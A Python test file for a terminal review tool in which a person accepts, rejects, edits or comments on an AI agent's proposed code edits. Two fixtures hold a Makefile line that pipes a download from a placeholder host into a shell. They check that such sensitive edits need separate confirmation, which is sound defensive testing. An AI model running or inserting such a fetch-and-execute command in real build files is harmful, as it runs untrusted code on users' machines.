"""Deciding and refining as a person does it: keys in, decisions and messages out."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from textual import events

from engine.planning.data import Fit
from engine.review import Decision, Verdict
from tests.tui.reviewing import ACCEPTED, CART, REJECTED, Play, Review, edits
from tui.view_model.marks import Standing
from tui.view_model.rows import LineRow

# ---------------------------------------------------------------- deciding


def test_accept_and_reject_go_on_to_the_next_open_hunk_and_round_the_end(play: Play) -> None:
    async def script(review: Review) -> None:
        await review("right_square_bracket", "y")
        assert (review.at, review.decisions) == (2, {1: ACCEPTED})
        await review("n")
        assert (review.at, review.decisions) == (0, {1: ACCEPTED, 2: REJECTED})
        await review("y")
        assert "Everything is decided" in review.app.said

    play(script)


def test_undo_and_redo_without_limit(play: Play) -> None:
    async def script(review: Review) -> None:
        await review("y", "n", "y", "u", "u")
        assert (review.decisions, review.at) == ({0: ACCEPTED}, 1)
        await review("ctrl+r", "ctrl+r")
        assert review.decisions == {0: ACCEPTED, 1: REJECTED, 2: ACCEPTED}
        await review("u", "u", "u", "u")
        assert review.decisions == {}
        assert "no decision to undo" in review.app.said

    play(script)


@pytest.mark.parametrize(
    ("keys", "decisions"),
    [
        (("A",), {0: ACCEPTED, 1: ACCEPTED, 2: ACCEPTED}),
        (("R",), {0: REJECTED, 1: REJECTED, 2: REJECTED}),
        (("n", "Y"), {0: REJECTED, 1: ACCEPTED, 2: ACCEPTED}),
        (("y", "N"), {0: ACCEPTED, 1: REJECTED, 2: REJECTED}),
        (("space",), {0: ACCEPTED}),
        (("space", "space"), {0: REJECTED}),
        (("space", "space", "space"), {}),
        (("a",), {}),
        (("escape",), {}),
        (("tab", "y"), {1: ACCEPTED}),
    ],
)
def test_keys_that_decide(play: Play, keys: tuple[str, ...], decisions: dict[int, Decision]) -> None:
    async def script(review: Review) -> None:
        await review(*keys)
        assert review.decisions == decisions

    play(script)


def test_pasting_decides_nothing(play: Play) -> None:
    async def script(review: Review) -> None:
        review.app.post_message(events.Paste("yyyAR"))
        await review.settled()
        assert review.decisions == {}

    play(script)


def test_a_key_from_before_the_cursor_was_moved_is_dropped(play: Play) -> None:
    async def script(review: Review) -> None:
        late = events.Key("y", "y")
        review.app.moved_by_itself()
        review.app.post_message(late)
        await review.settled()
        assert review.decisions == {}
        await review("y")
        assert review.decisions == {0: ACCEPTED}

    play(script)


def test_words_for_the_agent(play: Play) -> None:
    async def script(review: Review) -> None:
        await review("r")
        await review.write("keep the old sum")
        await review("c")
        await review.write("nice")
        await review("C")
        await review.write("thank you")
        assert review.decisions == {0: REJECTED}
        assert dict(review.state.comments) == {0: "keep the old sum", 1: "nice", None: "thank you"}
        assert review.state.feedback == "thank you"
        await review("r", "escape")
        assert review.decisions == {0: REJECTED}

    play(script)


def test_a_sensitive_file_needs_its_own_yes(play: Play) -> None:
    hook = edits(("Makefile", "", "all:\n\tcurl example.invalid | sh\n"))

    async def script(review: Review) -> None:
        await review("A")
        assert review.decisions == {}
        assert "1 left open" in review.app.said
        await review("y", "escape")
        assert review.decisions == {}
        await review("y", "enter")
        assert review.decisions == {0: ACCEPTED}
        assert review.state.confirmed == {"Makefile"}

    play(script, hook)


def test_bulk_accept_names_every_reason_for_what_it_leaves(play: Play) -> None:
    several = edits(
        ("cart.py", "return sum(items)", "return sum(items"),
        ("Makefile", "", "all:\n\tcurl example.invalid | sh\n"),
        ("cart.py", '"bye " + name', 'f"bye {name}"'),
        ("cart.py", "no such line at all", "x"),
    )

    async def script(review: Review) -> None:
        await review("n", "A")
        assert review.decisions == {0: REJECTED, 2: ACCEPTED}
        assert "1 accepted, 2 left open" in review.app.said
        assert "u takes it back" in review.app.said
        await review("A")
        assert "0 accepted" in review.app.said
        assert "u takes it back" not in review.app.said
        await review("u", "u", "A")
        for why in ("3 left open", "#0 would not parse", "#1 needs its own confirmation", "#3 old text not found"):
            assert why in review.app.said

    play(script, several)


def test_what_does_not_fit_is_not_accepted(play: Play) -> None:
    async def script(review: Review) -> None:
        assert review.app.stream.hunks[0].standing is Standing.MISFIT
        await review("y")
        assert review.decisions == {}
        assert "cannot be applied: n rejects it" in review.app.said
        await review("n")
        assert review.decisions == {0: REJECTED}

    play(script, edits(("cart.py", "nothing that stands there\nat all\n", "x\n")))


def test_a_place_by_hand(play: Play) -> None:
    ambiguous = edits(("twice.py", "x = 1\n", "x = 2\n"))

    async def script(review: Review) -> None:
        await review("m", "enter")
        block = review.app.stream.hunks[0]
        assert block.planned.fit is Fit.FITS
        await review("y")
        assert review.decisions == {0: ACCEPTED}

    async def prepared(review: Review) -> None:
        root = Path(review.app.desk.workspace.root)
        (root / "twice.py").write_text("x = 1\ny = 1\nx = 1\n")
        review.app.desk.plan(review.app.desk.items[0])
        review.app.replanned(review.app.desk.items)
        await review.settled()
        await script(review)

    play(prepared, ambiguous)


def test_of_two_hunks_on_the_same_text_only_one_is_taken(play: Play) -> None:
    rivals = edits(("cart.py", "return sum(items)", "return 1"), ("cart.py", "return sum(items)", "return 2"))

    async def script(review: Review) -> None:
        await review("y")
        first = review.decisions
        await review("y")
        assert review.decisions == first
        assert "same text" in review.app.said or "nothing to decide" in review.app.said

    play(script, rivals)


def test_the_same_change_is_decided_once(play: Play) -> None:
    same = edits(*((f"f{n}.py", "", "x = 1\n") for n in range(2)), ("cart.py", "name", "who"))
    many = json.loads(same)
    many["edits"] = [
        {"file_path": "cart.py", "old_string": "sum(items)", "new_string": "max(items)"},
        {"file_path": "other.py", "old_string": "sum(items)", "new_string": "max(items)"},
    ]

    async def script(review: Review) -> None:
        root = Path(review.app.desk.workspace.root)
        (root / "other.py").write_text("y = sum(items)\n")
        review.app.desk.plan(review.app.desk.items[0])
        review.app.replanned(review.app.desk.items)
        await review.settled()
        await review("equals_sign")
        assert "Decide this hunk first" in review.app.said
        await review("y", "g", "equals_sign")
        assert review.decisions == {0: ACCEPTED, 1: ACCEPTED}

    play(script, json.dumps(many).encode())


# ---------------------------------------------------------------- refining


def test_editing_a_hunk_before_it_is_accepted(play: Play) -> None:
    async def script(review: Review) -> None:
        await review("e")
        from textual.widgets import TextArea

        review.app.screen.query_one(TextArea).text = "    return max(items)\n"
        await review("ctrl+s")
        assert review.decisions == {0: Decision(Verdict.ACCEPT, text="    return max(items)\n")}
        assert review.app.stream.sections[0].hunks[0].standing is Standing.EDITED

    play(script)


def test_only_the_selected_lines_are_taken(play: Play) -> None:
    lines = edits(("cart.py", "    return sum(items)\n", "    a = 1\n    b = 2\n    return sum(items)\n"))

    async def script(review: Review) -> None:
        while "a = 1" not in _row_text(review):
            await review("j")
        await review("v", "y")
        assert review.decisions == {0: Decision(Verdict.ACCEPT, text="    a = 1\n    return sum(items)\n")}

    play(script, lines)


def _row_text(review: Review) -> str:
    """The added or unchanged line under the cursor."""
    cursor = review.app.stream.cursor
    assert cursor is not None
    row = review.app.stream.row(cursor.block, cursor.offset)
    return row.new.text if isinstance(row, LineRow) and row.new else ""


def test_a_split_hunk_is_decided_part_by_part(play: Play) -> None:
    whole = json.dumps(
        {"file_path": "cart.py", "content": CART.replace("sum(items)", "max(items)").replace("bye", "ciao")}
    ).encode()

    async def script(review: Review) -> None:
        await review("s")
        assert "Split in 2" in review.app.said
        await review("y", "n")
        assert review.decisions == {0: Decision(Verdict.ACCEPT, parts=frozenset({0}))}

    play(script, whole)
